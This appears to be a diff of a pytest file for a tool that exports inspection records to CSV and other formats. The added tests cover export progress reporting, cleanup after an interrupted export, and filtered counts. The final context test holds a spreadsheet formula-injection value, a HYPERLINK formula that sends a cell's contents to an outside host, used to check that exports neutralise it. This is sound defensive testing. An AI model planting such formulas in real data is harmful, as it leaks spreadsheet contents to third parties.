@@ -45,6 +45,39 @@ def test_csv_is_a_line_an_inspection(records: Records, tmp_path: Path) -> None:
     assert (records.folder / lines[1]["evidence"]).is_file()
 
 
+@pytest.mark.parametrize("form", Form)
+@pytest.mark.parametrize(
+    "wanted",
+    [Wanted(serial="A"), Wanted(serial="A", component="screw"), Wanted(serial="A", verdict=Verdict.OK)],
+    ids=["a number", "and a component", "and a verdict"],
+)
+def test_an_export_tells_how_far_it_is_and_leaves_nothing_once_it_is_ended(
+    records: Records, tmp_path: Path, form: Form, wanted: Wanted
+) -> None:
+    add(records, *(inspection(n, Verdict.OK, serial="A") for n in range(3)), inspection(3, serial="B"))
+    heard: list[tuple[int, int]] = []
+    path = tmp_path / "out" / f"all.{form}"
+    export(records, path, form, wanted, lambda done, total: heard.append((done, total)))
+    assert heard == [(1, 3), (2, 3), (3, 3)]
+    path.unlink()
+
+    def end(done: int, _: int) -> None:
+        if done == 2:
+            raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        export(records, path, form, wanted, end)
+    assert not any(path.parent.iterdir())
+
+
+@pytest.mark.parametrize(
+    "wanted", [Wanted(), Wanted(component="screw"), Wanted(component="screw", verdict=Verdict.NOT_OK), Wanted(NOON)]
+)
+def test_what_is_counted_is_what_is_given(records: Records, wanted: Wanted) -> None:
+    add(records, *(inspection(n, verdict) for n, verdict in enumerate((Verdict.OK, Verdict.NOT_OK, Verdict.NOT_OK))))
+    assert records.count(wanted) == len(list(records.each(wanted))) > 0
+
+
 def test_a_serial_number_is_no_formula_in_csv(records: Records, tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://elsewhere/?"&A1,"ok")'
     add(records, inspection(0, serial=formula))
